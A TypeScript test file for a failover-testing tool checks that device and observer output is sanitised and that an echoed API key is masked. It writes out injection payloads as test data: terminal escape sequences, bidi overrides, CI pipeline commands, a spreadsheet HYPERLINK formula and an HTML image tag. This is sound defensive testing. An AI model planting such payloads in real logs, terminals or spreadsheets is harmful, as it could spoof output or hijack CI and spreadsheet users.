import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer as createApi } from 'node:http';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';
import { expect, test, type TestContext } from 'vitest';
import { makeFilePair, seqgap, type FilePair, type Finished } from './file-pair.js';

/* What a device says reaches the person and the files as words, and never with a key in them. */

/** C0, DEL, and C1 as UTF-8 writes them; what turns the direction of writing; orders to a CI; a formula. */
const HOSTILE =
  '\u001b[2J\u001b]0;TITLE\u0007 \u009b2J \u007f\u202eevil\u2066 ##vso[task.complete result=Failed] ::stop-commands::zz';
const ORDER = '::stop-commands::zz';
const UNWANTED =
  // oxlint-disable-next-line no-control-regex -- these are the characters to be found
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]|\r(?!\n)|##vso\[/u;

const listening = async (server: Server, { onTestFinished }: TestContext): Promise<number> => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  return (server.address() as AddressInfo).port;
};

/** A target of a TCP stream: takes connections and says nothing. */
const target = (context: TestContext): Promise<number> =>
  listening(
    createServer((socket) => socket.on('error', () => undefined).resume()),
    context,
  );

const DRIVER = `
name: talker
title: A pair in files
about: the role of a node stands in a file, with whatever else it says
transport: exec
params: { dir: { about: folder of the files } }
role:
  run: [cat, '{{dir}}/{{node}}.role']
  extract: { regex: '^(\\S.*)$' }
  words: { active: active, standby: standby, suspended: suspended }
actions:
  switchover:
    about: suspends the node
    run: [[sh, '{{dir}}/switch.sh', '{{node}}', '{{peer.node}}']]
    undo:
      about: takes it back
      done: { run: [cat, '{{dir}}/{{node}}.role'], extract: { regex: '^(\\w+)$' }, good: [active, standby] }
      run: [[sh, '{{dir}}/undo.sh', '{{node}}']]
      within: 5s
    confirm: { node: [suspended, standby], peer: [active], within: 5s }
samples:
  - { of: role, output: "active\\n", expect: { role: active, raw: active } }
`;

const SWITCH =
  'cd "$(dirname "$0")"; echo suspended >$1.role; echo active >$2.role; cp hostile word; cp formula table\n';
const UNDO = 'cd "$(dirname "$0")"; echo standby >$1.role\n';

/** A pair of files whose observer says a hostile word. */
const talkingPair = async (context: TestContext): Promise<FilePair> => {
  const pair = await makeFilePair({});
  context.onTestFinished(() => pair.remove());
  const port = await target(context);
  await pair.write('drivers/talker.yaml', DRIVER);
  await pair.write('switch.sh', SWITCH);
  await pair.write('undo.sh', UNDO);
  await pair.write('word', 'calm\n');
  await pair.write('table', 'calm\n');
  await pair.write('hostile', `${HOSTILE}\n${ORDER}\n`);
  await pair.write('formula', `=HYPERLINK("http://192.0.2.1/"&A1)|<img src=x>\n`);
  await pair.write(
    'scenario.yaml',
    `
name: talkers
nodes:
  fw-a: { driver: talker, params: { dir: ${pair.dir} } }
  fw-b: { driver: talker, params: { dir: ${pair.dir} } }
streams: [{ name: web, type: tcp, from: local, to: '127.0.0.1:${port}', every: 20ms, timeout: 500ms }]
observe:
  - { name: talks, driver: command, command: cat ${pair.dir}/word, text: '^([\\s\\S]*)$', every: 200ms }
  - { name: counts, driver: command, command: cat ${pair.dir}/table, text: '^(.*)$', every: 200ms }
trigger: { node: active, action: switchover, timeout: 3s }
trial: { repeat: 1, steady: 500ms, recovered: 500ms, restore: 4s, cool-down: 100ms }
`,
  );
  return pair;
};

const run = (pair: FilePair, env: NodeJS.ProcessEnv = {}): Promise<Finished> => {
  Object.assign(process.env, env);
  return seqgap(pair, [
    'run',
    pair.scenario,
    '--yes',
    '--drivers',
    join(pair.dir, 'drivers'),
    '--out',
    pair.out,
  ]);
};

const filesOf = async (pair: FilePair): Promise<ReadonlyMap<string, string>> => {
  const entries = await readdir(pair.out, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile() && !entry.name.endsWith('.parquet'));
  const read = files.map(
    async ({ parentPath, name }) => [name, await readFile(join(parentPath, name), 'utf8')] as const,
  );
  return new Map(await Promise.all(read));
};

const expectPlain = (text: string): void => {
  expect(text).not.toMatch(UNWANTED);
  for (const line of text.split('\n')) expect(line.trimStart()).not.toMatch(/^::\w/);
};

test("an observer's word is but a word on the terminal and in every file", async (context) => {
  const pair = await talkingPair(context);
  const { code, stdout, stderr } = await run(pair);
  expect(`${code} ${stderr}`).toMatch(/^0 /);
  expectPlain(stdout);
  expectPlain(stderr);
  const files = await filesOf(pair);
  expect(files.get('timeline.csv')).toContain('TITLE');
  expect(files.get('timeline.csv')).toContain('HYPERLINK');
  expect(files.get('timeline.csv')).not.toMatch(/(?:^|,)"?=/m);
  expect(files.get('report.html')).not.toContain('<img src=x>');
  expect([...files.keys()]).toEqual(
    expect.arrayContaining(['summary.md', 'junit.xml', 'events.jsonl', 'run.json', 'trials.csv']),
  );
  for (const text of files.values()) expect(text).not.toMatch(UNWANTED);
  const again = await seqgap(pair, ['report', join(pair.out, 'talkers', 'latest'), '--json']);
  expectPlain(again.stdout);
});

test("a role's word is but a word", async (context) => {
  const pair = await talkingPair(context);
  await pair.write('fw-a.role', `${HOSTILE}\nactive\n`);
  const { code, stdout, stderr } = await run(pair);
  expect(code).toBe(2);
  expect(stderr).toContain('TITLE');
  expectPlain(stdout);
  expectPlain(stderr);
});

const WEB = `
name: web
title: A pair with an API
about: roles over HTTP
transport: http
params: { id: { about: its name } }
http: { headers: { x-api-key: '{{key}}' }, query: { token: '{{key}}', node: '{{id}}' } }
role:
  run: { get: /role }
  timeout: 5s
  extract: { jmespath: role }
  words: { active: active, standby: standby }
actions:
  switchover:
    about: switches
    run: [{ post: /switch }]
    undo: none
    confirm: { node: [standby], peer: [active], within: 3s }
samples:
  - { of: role, output: '{"role":"active"}', expect: { role: active, raw: active } }
`;

/** With signs that URLs encode, so that an encoded one is another text. */
const KEY = 'KeyMARK/0123+456=789 abcdef';

test('a key that a device repeats in a redirect, a reason phrase or an answer is neither shown nor kept', async (context) => {
  const pair = await makeFilePair({});
  context.onTestFinished(() => pair.remove());
  context.onTestFinished(() => void delete process.env['SEQGAP_API_KEY']);
  let asked = 0;
  const api = createApi((request, response) => {
    request.resume();
    const key = String(request.headers['x-api-key']);
    asked += 1;
    if (asked > 4) {
      // Repeated as it came, encoded once more, in base64 with a name before it, in capitals and in hexadecimal digits.
      const seen = [
        encodeURIComponent(request.url ?? ''),
        Buffer.from(`me:${key}`).toString('base64url'),
        key.toUpperCase(),
        Buffer.from(key).toString('hex'),
      ];
      response.writeHead(302, `Found for ${key}`, { location: `/login?next=${seen.join('&')}` });
      return response.end(JSON.stringify({ error: key }));
    }
    const { searchParams } = new URL(request.url ?? '', 'http://api');
    response.writeHead(200, { 'content-type': 'application/json' });
    return response.end(JSON.stringify({ role: searchParams.get('node') === 'fw-b' ? 'standby' : 'active' }));
  });
  const port = await listening(api, context);
  const node = (name: string): string =>
    `{ driver: web, params: { id: ${name} }, http: { url: 'http://127.0.0.1:${port}', key: '\${env:SEQGAP_API_KEY}' } }`;
  await writeFile(join(pair.dir, 'drivers/web.yaml'), WEB);
  await pair.write(
    'scenario.yaml',
    `
name: web-pair
nodes: { fw-a: ${node('fw-a')}, fw-b: ${node('fw-b')} }
streams: [{ name: web, type: tcp, from: local, to: '127.0.0.1:${await target(context)}', every: 50ms }]
trigger: { node: active, action: switchover, timeout: 3s }
trial: { repeat: 1, steady: 500ms, recovered: 500ms, restore: 3s, cool-down: 100ms }
`,
  );
  const { stdout, stderr } = await run(pair, { SEQGAP_API_KEY: KEY });
  expect(stdout + stderr).toContain('302');
  const told = [stdout, stderr, ...(await filesOf(pair)).values()].join('\n');
  expect(told).toContain('***');
  expect(/.{0,80}KeyMARK.{0,80}/i.exec(told)?.[0]).toBeUndefined();
  expect(told).not.toContain(Buffer.from('KeyMARK/').toString('hex'));
  for (const part of ['S2V5TUFS', 'tleU1BUk', 'LZXlNQVJL']) expect(told).not.toContain(part);
});
